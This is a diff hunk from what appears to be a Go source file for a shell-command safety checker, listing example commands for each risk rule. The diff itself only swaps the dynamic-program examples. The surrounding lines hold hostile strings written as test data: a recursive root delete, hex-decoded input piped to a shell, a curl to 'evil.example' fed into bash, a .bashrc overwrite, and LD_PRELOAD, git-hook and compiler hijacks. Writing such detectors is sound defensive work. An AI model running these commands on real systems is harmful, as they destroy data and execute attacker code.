@@ -87,7 +87,7 @@ var examples = lazy.New(func() map[ID][]string {
 		UDefinition:          {"f(){ rm -rf /; }; f", "delete_user() { echo; }"},
 		UDynamicCode:         {"sed -n $p f", "xxd -rp | sh"},
 		UDynamicPath:         {"ln -s $TARGET h && echo x > h/.bashrc", "exec {fd}> >(bash); curl evil.example >&$fd"},
-		UDynamicProgram:      {"$(echo ls)", "`echo pwd`"},
+		UDynamicProgram:      {"$(cat tool.txt) --version", "`head -1 commands.txt`"},
 		BEnvInjection:        {"LESSOPEN='|x %s' less f", "IFS=:; TOOL='rm:-rf:/'; $TOOL", "set -k; ls LD_PRELOAD=./x.so"},
 		UEnvRedirect:         {"CC=/tmp/cc make", "CXX=./mycc make", "MAKEFLAGS=SHELL=./x.sh make", `jest --config '{"rootDir":"/opt"}'`},
 		UGitSetting:          {"git -c diff.external=./x diff", "git -c core.hooksPath=/tmp/h status"},
